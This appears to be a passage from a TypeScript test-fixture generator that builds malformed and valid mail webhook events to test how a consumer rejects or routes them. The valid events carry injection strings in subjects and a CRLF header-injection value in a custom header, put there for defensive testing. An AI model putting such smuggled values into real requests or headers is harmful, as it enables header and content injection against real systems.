          reasons: one('missing_organization'),
          value: json(generic(n, {}, { from })),
        }),
        () => ({
          name: 'generic with an empty organization-id header',
          reasons: one('missing_organization'),
          value: json(generic(n)),
          headers: { 'organization-id': '' },
        }),
      ];
      return pick(variants)();
    },

    'unknown organisation': (n) => {
      const crockford = '0123456789ABCDEFGHJKMNPQRSTVWXYZ';
      const randomOrg = `org_${word(26, crockford)}`;
      const variant = pick([
        randomOrg,
        org.toLowerCase(),
        `${org} `,
        ` ${org}`,
        `${org}X`,
        org.slice(0, -1),
        org.replace('org_', 'ORG_'),
        org.replace('org_', 'org-'),
        `wh_${word(26, crockford)}`,
        `key_${word(26, crockford)}`,
        '0',
      ]);
      const byHeader = chance(0.5);
      if (byHeader) {
        const { value } = anyShape(n);
        const headerless = 'organization_id' in value ? generic(n) : value;
        return {
          name: `organization-id header ${JSON.stringify(variant)}`,
          reasons: one('unknown_organization'),
          value: json(headerless),
          headers: { 'organization-id': variant },
        };
      }
      return {
        name: `organization_id ${JSON.stringify(variant)}`,
        reasons: one('unknown_organization'),
        value: json(canonical(n, { organization_id: variant })),
      };
    },

    'unknown type': (n) => {
      const known = [
        'message.queued',
        'message.sent',
        'message.delivered',
        'message.bounced',
        'message.clicked',
        'domain.dns_error',
        'delivered',
        'MessageSent',
        'api_mail_log_delivered',
        'message.complaint',
      ];
      const base = pick(known);
      const first = base[0]!;
      const flipped =
        (first === first.toUpperCase() ? first.toLowerCase() : first.toUpperCase()) + base.slice(1);
      // The separator swapped for another; names without one get the other appended.
      const separator = (other: string) =>
        base.includes('.') ? base.replace('.', other) : `${base}${other}`;
      const name = pick([
        `message.x${word(int(1, 12))}`,
        `${word(int(1, 10))}.${word(int(1, 10))}`,
        flipped,
        base.toUpperCase(),
        ` ${base}`,
        `${base} `,
        `${base}.`,
        separator('..'),
        base.slice(0, -1),
        `${base}s`,
        separator('_'),
        separator('-'),
        base.includes('.') ? base.replace(/\.[^.]*$/, '.*') : `${base}*`,
        '*',
        'message.#',
        'message.',
        '',
        String(int(0, 999)),
      ]);
      const { value, headers } = named(n, name);
      return {
        name: `event name ${JSON.stringify(name)}`,
        reasons: one('unknown_type'),
        value: json(value),
        headers,
      };
    },
  };

  const handWritten: BadMailEvent[] = hostileMailEvents({
    organizationId: org,
    maxEventBytes: max,
    seed,
  }).map((message) => ({ ...message, family: 'hand-written' }));
  const generated: BadMailEvent[] = [];
  const total = BAD_FAMILIES.reduce((sum, family) => sum + FAMILY_SHARES[family], 0);
  BAD_FAMILIES.forEach((family, index) => {
    const share =
      index === BAD_FAMILIES.length - 1
        ? count - generated.length
        : Math.round((count * FAMILY_SHARES[family]) / total);
    for (let n = 0; n < share; n++) generated.push({ ...families[family](n), family });
  });
  // Mixed, so that every batch the consumer takes holds several kinds of flaw.
  return kit.shuffle([...handWritten, ...generated]);
}

/** A valid event for the bad-input tests: accepted, routed to `organizationId`, delivered. */
export interface ValidMailEvent {
  messageId: string;
  subject: string;
  value: Buffer;
  headers?: Record<string, string>;
}

/**
 * Valid events in every accepted shape, routed by `organization_id`, by the header or by
 * the registered `senderDomain`, whose free-text fields carry injection strings and
 * tricky Unicode: legal content that must arrive as it was sent.
 */
export function validMailEvents(options: {
  organizationId: string;
  senderDomain: string;
  count: number;
  /** Unique per test run: events are deduplicated on their source id. */
  tag: string;
  seed?: number;
}): ValidMailEvent[] {
  const { pick, int } = randomKit(options.seed ?? 7);
  const { organizationId, senderDomain, tag } = options;
  const header = { 'organization-id': organizationId };
  return Array.from({ length: options.count }, (_, i) => {
    const messageId = `<valid-${tag}-${i}@${senderDomain}>`;
    const subject = `${pick(INJECTION_STRINGS)} ${pick(TRICKY_UNICODE)} ${i}`;
    const from = `news@${senderDomain}`;
    const customHeaders = { 'X-Campaign': `spring\r\nInjected: ${i}` };
    const shape = int(0, 4);
    if (shape === 0)
      return {
        messageId,
        subject,
        value: json({
          id: `evt_valid_${tag}_${i}`,
          type: pick(['message.delivered', 'message.bounced', 'message.opened', 'message.clicked']),
          organization_id: organizationId,
          occurred_at: OCCURRED_AT,
          data: {
            message_id: messageId,
            from,
            to: 'ann@example.org',
            subject,
            custom_headers: customHeaders,
          },
        }),
      };
    if (shape === 1)
      // No organisation named: routed by the sender's registered domain.
      return {
        messageId,
        subject,
        value: json({
          id: `evt_valid_${tag}_${i}`,
          type: 'message.sent',
          occurred_at: OCCURRED_AT,
          data: {
            message_id: messageId,
            from: `Spring Sale <${from}>`,
            to: ['ann@example.org'],
            subject,
          },
        }),
      };
    if (shape === 2)
      return {
        messageId,
        subject,
        headers: header,
        value: json({
          event_name: pick([
            'api_mail_log_delivered',
            'api_mail_log_opened',
            'api_mail_log_permanent_failure',
          ]),
          payload: {
            id: `${tag}-${i}`,
            header_message_id: messageId,
            from,
            to: 'ann@example.org',
            subject,
            time: OCCURRED_AT,
          },
        }),
      };
    if (shape === 3)
      return {
        messageId,
        subject,
        headers: header,
        value: json({
          event: pick(['MessageSent', 'MessageDelayed', 'MessageLinkClicked']),
          timestamp: EPOCH_SECONDS,
          uuid: `valid-${tag}-${i}`,
          payload: {
            message: { id: i, message_id: messageId, from, to: 'ann@example.org', subject },
            status: 'Sent',
          },
        }),
      };
    return {
      messageId,
      subject,
      value: json({
        id: `evt_generic_valid_${tag}_${i}`,
        type: pick(['delivered', 'bounced', 'message.complaint', 'opened']),
        created_at: OCCURRED_AT,
        data: { email_id: messageId, from, to: 'ann@example.org', subject },
      }),
    };
  });
}
